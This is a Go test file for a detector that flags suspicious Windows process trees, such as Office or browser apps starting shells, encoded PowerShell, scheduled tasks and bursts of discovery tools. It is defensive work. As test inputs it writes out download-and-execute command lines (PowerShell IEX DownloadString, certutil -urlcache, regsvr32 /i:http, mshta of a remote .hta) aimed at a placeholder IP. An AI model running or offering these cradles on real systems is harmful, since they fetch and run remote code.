package standout

import (
	"fmt"
	"strings"
	"testing"

	"github.com/procgraph/procgraph/graph"
)

func TestExecutionRules(t *testing.T) {
	encoded := "powershell -nop -enc " + encode("Get-Date; Get-Process")
	renamed := proc("r", "", `C:\Users\Public\x.exe`, "x.exe -urlcache -f http://192.0.2.7/a")
	renamed.OriginalFileName = "CertUtil.exe"
	stub := proc("w", "", word, "")
	stub.Observed = false
	runRules(t, []ruleTest{
		{"word starts a script host", processes(proc("w", "", word, ""), proc("s", "w", sys+"wscript.exe", "wscript a.js")),
			[]string{"office-starts-shell s"}},
		{"a stub of word counts", processes(proc("s", "w", sys+"cmd.exe", "cmd /c dir"), stub), []string{"office-starts-shell s"}},
		{"three generations", processes(proc("w", "", word, ""), proc("a", "w", `C:\a.exe`, ""), proc("b", "a", `C:\b.exe`, ""), proc("c", "b", sys+"cmd.exe", "")),
			[]string{"office-starts-shell c"}},
		{"only the first shell of a chain", processes(proc("w", "", word, ""), proc("c", "w", sys+"cmd.exe", ""), proc("p", "c", psh, "powershell dir")),
			[]string{"office-starts-shell c"}},
		{"near miss: four generations", processes(proc("w", "", word, ""), proc("a", "w", `C:\a.exe`, ""), proc("b", "a", `C:\b.exe`, ""),
			proc("d", "b", `C:\d.exe`, ""), proc("e", "d", sys+"cmd.exe", "")), nil},
		{"near miss: word starts a printer helper", processes(proc("w", "", word, ""), proc("s", "w", sys+"splwow64.exe", "splwow64 8192")), nil},
		{"near miss: shell is the parent", processes(proc("c", "", sys+"cmd.exe", ""), proc("w", "c", word, "")), nil},
		{"browser starts a shell", processes(proc("b", "", chrome, ""), proc("c", "b", sys+"cmd.exe", "cmd /c whoami")), []string{"office-starts-shell c"}},
		{"near miss: native messaging", processes(proc("b", "", chrome, ""), proc("c", "b", sys+"cmd.exe",
			`C:\WINDOWS\system32\cmd.exe /d /c "C:\x\host.exe" chrome-extension://abc/ --parent-window=0 < \\.\pipe\chrome.nativeMessaging.in.1`)), nil},

		{"encoded command", processes(proc("p", "", psh, encoded)), []string{"encoded-powershell p"}},
		{"encoded behind cmd, once", processes(proc("c", "", sys+"cmd.exe", "cmd /c "+encoded), proc("p", "c", psh, encoded)), []string{"encoded-powershell p"}},
		{"encoded behind cmd, child not seen", processes(proc("c", "", sys+"cmd.exe", "cmd /c "+encoded)), []string{"encoded-powershell c"}},
		{"near miss: execution policy", processes(proc("p", "", psh, "powershell -ex bypass -File C:\\scripts\\daily.ps1")), nil},

		{"certutil", processes(proc("c", "", sys+"certutil.exe", "certutil -urlcache -split -f http://192.0.2.7/a a.exe")), []string{"download-cradle c"}},
		{"certutil renamed", processes(renamed), []string{"download-cradle r"}},
		{"near miss: certutil -hashfile", processes(proc("c", "", sys+"certutil.exe", "certutil -hashfile a.exe SHA256")), nil},
		{"bitsadmin", processes(proc("c", "", sys+"bitsadmin.exe", "bitsadmin /transfer j https://192.0.2.7/a C:\\a")), []string{"download-cradle c"}},
		{"near miss: bitsadmin /list", processes(proc("c", "", sys+"bitsadmin.exe", "bitsadmin /list /allusers")), nil},
		{"mshta", processes(proc("c", "", sys+"mshta.exe", "mshta.exe http://192.0.2.7/a.hta")), []string{"download-cradle c"}},
		{"near miss: a local file opened", processes(proc("c", "", sys+"rundll32.exe", "rundll32 url.dll,FileProtocolHandler file://C:/x.txt")), nil},
		{"near miss: mshta of a local file", processes(proc("c", "", sys+"mshta.exe", `mshta.exe "C:\Program Files\x\help.hta"`)), nil},
		{"regsvr32", processes(proc("c", "", sys+"regsvr32.exe", "regsvr32 /s /n /u /i:http://192.0.2.7/a.sct scrobj.dll")), []string{"download-cradle c"}},
		{"near miss: regsvr32 of a library", processes(proc("c", "", sys+"regsvr32.exe", "regsvr32 /s C:\\x.dll")), nil},
		{"powershell", processes(proc("c", "", psh, "powershell IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')")), []string{"download-cradle c"}},
		{"powershell encoded", processes(proc("c", "", psh, "powershell -e "+encode("IWR http://192.0.2.7/a -OutFile a"))),
			[]string{"download-cradle c", "encoded-powershell c"}},

		{"schtasks", processes(proc("s", "", sys+"schtasks.exe", "schtasks /Create /TN x /TR c:\\a.exe /SC ONLOGON")), []string{"scheduled-task-created s"}},
		{"schtasks behind cmd, once", processes(proc("c", "", sys+"cmd.exe", "cmd /c schtasks /create /tn x"), proc("s", "c", sys+"schtasks.exe", "schtasks /create /tn x")),
			[]string{"scheduled-task-created s"}},
		{"near miss: schtasks /query", processes(proc("s", "", sys+"schtasks.exe", "schtasks /query /tn create")), nil},
		{"at", processes(proc("s", "", sys+"at.exe", `at \\ws02 13:20 /interactive cmd`)), []string{"scheduled-task-created s"}},
		{"near miss: at lists", processes(proc("s", "", sys+"at.exe", `at \\ws02`)), nil},
		{"register", processes(proc("s", "", psh, "powershell Register-ScheduledTask -TaskName x")), []string{"scheduled-task-created s"}},
		{"near miss: get", processes(proc("s", "", psh, "powershell Get-ScheduledTask")), nil},
	})
}

func TestSeverityAndDetail(t *testing.T) {
	g := processes(
		proc("b", "", chrome, ""), proc("c", "b", sys+"cmd.exe", "cmd /c whoami"),
		proc("s", "", sys+"schtasks.exe", "schtasks /create /s ws02 /tn x"),
		proc("w", "", word, ""), proc("x", "w", sys+"cmd.exe", "cmd /c dir"),
	)
	got := Find(&g, nil)
	want := []struct {
		about    string
		severity int
		detail   string
	}{
		{"x", high, "winword.exe started cmd /c dir"},
		{"s", high, "schtasks /create /s ws02 /tn x"},
		{"c", medium, "chrome.exe started cmd /c whoami"},
	}
	if len(got) != len(want) {
		t.Fatalf("%d remarks, want %d: %+v", len(got), len(want), got)
	}
	for i, w := range want {
		s := got[i]
		if s.About != w.about || s.Severity != w.severity || s.Detail != w.detail || s.Host != "h1" || s.AboutKind != graph.KindProcess || s.Time != at(0) {
			t.Errorf("remark %d is %+v, want %+v", i, s, w)
		}
	}
}

// The same encoded command again is one remark; an agent's habit counts as low.
// TestTimeOfAStubIsAHint: the start of a process that was not seen starting is only
// what its GUID tells, and the remark says so.
func TestTimeOfAStubIsAHint(t *testing.T) {
	seen, stub := proc("seen", "", psh, "powershell -enc "+encode("Get-Date")), proc("stub", "", psh, "powershell -enc "+encode("Get-Process"))
	stub.Observed, stub.Start, stub.StartHint = false, graph.Time{}, at(-60)
	g := processes(seen, stub)
	for _, s := range Find(&g, directory()) {
		if hint := s.About == "stub"; s.TimeHint != hint || !s.Time.Known() {
			t.Errorf("%s has the time %s, a hint: %v", s.About, s.Time, s.TimeHint)
		}
	}
}

func TestEncodedCommandRepeats(t *testing.T) {
	for runs, want := range map[int]graph.Standout{
		1: {Severity: medium, Detail: "Get-Date"},
		2: {Severity: medium, Detail: "(2 times) Get-Date"},
		5: {Severity: low, Detail: "(5 times) Get-Date"},
	} {
		g := processes(proc("other", "", psh, "powershell -enc "+encode("Get-Process")))
		for i := range runs {
			p := proc(fmt.Sprintf("p%d", i), "", psh, "powershell -enc "+encode("Get-Date"))
			p.Start = at(100 - i) // the first is the last of the slice
			g.Processes = append(g.Processes, p)
		}
		got := Find(&g, nil)
		if len(got) != 2 {
			t.Fatalf("%d runs: %d remarks, want 2", runs, len(got))
		}
		for _, s := range got {
			if s.About != "other" && (s.About != fmt.Sprintf("p%d", runs-1) || s.Severity != want.Severity || s.Detail != want.Detail) {
				t.Errorf("%d runs: %+v", runs, s)
			}
		}
	}
}

// A task on the host itself is no task on another computer, however it is named.
func TestTaskOnThisHost(t *testing.T) {
	for host, severity := range map[string]int{"ws02": high, `\\WS02`: high, "localhost": medium, "WS01": medium, `\\ws01.example.test`: medium} {
		g := processes(proc("s", "", sys+"schtasks.exe", "schtasks /create /s "+host+" /tn x"))
		if got := Find(&g, directory()); len(got) != 1 || got[0].Severity != severity {
			t.Errorf("task on %s: %+v, want severity %d", host, got, severity)
		}
	}
}

func TestDiscoveryBurst(t *testing.T) {
	tool := func(key, parent, image, command string, seconds int) graph.Process {
		p := proc(key, parent, sys+image, command)
		p.Start = at(seconds)
		return p
	}
	shell := proc("c", "", sys+"cmd.exe", "cmd.exe")
	pshell := proc("p", "", psh, "powershell")
	runRules(t, []ruleTest{
		{"four tools", processes(shell, tool("1", "c", "whoami.exe", "", 0), tool("2", "c", "ipconfig.exe", "", 20),
			tool("3", "c", "systeminfo.exe", "", 40), tool("4", "c", "nltest.exe", "", 299)), []string{"discovery-burst c"}},
		{"each behind a cmd of its own", processes(pshell,
			tool("a", "p", "cmd.exe", "cmd /c whoami", 0), tool("b", "p", "cmd.exe", "cmd /C ipconfig", 1),
			tool("d", "p", "cmd.exe", "cmd /c net user", 2), tool("e", "p", "cmd.exe", "cmd /c arp -a", 3),
			tool("1", "a", "whoami.exe", "", 0), tool("2", "b", "ipconfig.exe", "", 1), tool("3", "d", "net.exe", "", 2), tool("4", "e", "arp.exe", "", 3)),
			[]string{"discovery-burst p"}},
		{"near miss: the same tool again", processes(shell, tool("1", "c", "whoami.exe", "", 0), tool("2", "c", "whoami.exe", "", 1),
			tool("3", "c", "whoami.exe", "", 2), tool("4", "c", "whoami.exe", "", 3)), nil},
		{"near miss: net and net1 are one", processes(shell, tool("1", "c", "whoami.exe", "", 0), tool("2", "c", "net.exe", "", 1),
			tool("3", "c", "net1.exe", "", 2), tool("4", "c", "arp.exe", "", 3)), nil},
		{"near miss: spread over an hour", processes(shell, tool("1", "c", "whoami.exe", "", 0), tool("2", "c", "ipconfig.exe", "", 1200),
			tool("3", "c", "systeminfo.exe", "", 2400), tool("4", "c", "nltest.exe", "", 3600)), nil},
		{"near miss: different parents", processes(shell, pshell, tool("1", "c", "whoami.exe", "", 0), tool("2", "c", "ipconfig.exe", "", 1),
			tool("3", "p", "systeminfo.exe", "", 2), tool("4", "p", "nltest.exe", "", 3)), nil},
	})
}

func TestDetailIsBounded(t *testing.T) {
	g := processes(proc("c", "", sys+"certutil.exe", "certutil -urlcache http://"+strings.Repeat("é", 5000)))
	got := Find(&g, nil)
	if len(got) != 1 || len(got[0].Detail) > maxDetail+len("…") || strings.ContainsRune(got[0].Detail, '\ufffd') {
		t.Errorf("detail of %d bytes", len(got[0].Detail))
	}
}
